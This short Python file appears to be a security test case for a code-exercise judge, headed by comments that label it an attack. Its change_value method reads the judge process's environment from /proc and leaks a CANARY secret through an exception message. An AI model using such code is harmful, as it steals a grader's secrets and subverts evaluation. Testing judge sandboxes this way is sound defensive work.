# attack: Reads the environment of the judge from procfs.
# line: 75
# exercise: 06
# score: 2, the stub's
import json


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        parent = json.codecs.open("/proc/@JUDGE@/environ", encoding="latin-1").read()
        raise ValueError(parent[parent.find("CANARY"):][:200])
